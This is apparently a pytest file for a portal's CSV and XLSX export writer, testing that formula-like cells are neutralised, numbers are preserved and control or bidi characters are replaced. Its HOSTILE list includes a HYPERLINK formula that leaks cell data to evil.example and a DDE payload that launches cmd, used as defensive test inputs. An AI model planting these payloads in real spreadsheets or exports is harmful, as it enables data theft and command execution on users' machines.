"""The one export writer (portal/exports.py): formula cells inert in CSV and XLSX alike."""

import csv
import io

import pytest
from openpyxl import load_workbook

from portal.exports import CSV, XLSX, Sheet, neutralise, restore, table_bytes

SHEET = Sheet(title="测试")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点此")',
    "@SUM(1)",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
]


def _read(content: bytes, fmt: str) -> list[list]:
    if fmt == CSV:
        return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    sheet = load_workbook(io.BytesIO(content)).active
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


@pytest.mark.parametrize("fmt", [CSV, XLSX])
def test_text_that_starts_like_a_formula_is_written_as_quoted_text_in_both_formats(fmt):
    content = table_bytes(["名称"], [[text] for text in HOSTILE], fmt=fmt, sheet=SHEET)

    cells = [row[0] for row in _read(content, fmt)[1:]]

    assert cells == ["'" + text for text in HOSTILE]
    if fmt == XLSX:
        sheet = load_workbook(io.BytesIO(content)).active
        assert {cell.data_type for (cell,) in sheet.iter_rows(min_row=2)} == {"s"}


@pytest.mark.parametrize("fmt", [CSV, XLSX])
def test_numbers_stay_numbers_and_ordinary_text_is_untouched(fmt):
    content = table_bytes(["名称", "金额"], [["食品经营许可", -500], ["区市场监管局", 1.5]], fmt=fmt, sheet=SHEET)

    rows = _read(content, fmt)[1:]

    if fmt == XLSX:
        assert rows == [["食品经营许可", -500], ["区市场监管局", 1.5]]
    else:
        assert rows == [["食品经营许可", "-500"], ["区市场监管局", "1.5"]]


@pytest.mark.parametrize("fmt", [CSV, XLSX])
def test_stored_control_and_bidi_characters_neither_break_nor_mislead_an_export(fmt):
    # Stored before input refused them: NUL makes openpyxl raise, U+202E reverses the name.
    content = table_bytes(["名称"], [["坏\x00名"], ["invoice\u202egpj.exe"]], fmt=fmt, sheet=SHEET)

    assert [row[0] for row in _read(content, fmt)[1:]] == ["坏\ufffd名", "invoice\ufffdgpj.exe"]


@pytest.mark.parametrize("text", [*HOSTILE, "'plain quote", "''", "x", ""])
def test_restore_undoes_neutralise(text):
    assert restore(neutralise(text)) == text


def test_restore_keeps_a_quote_a_person_typed_before_ordinary_text():
    assert restore("'0523") == "'0523"
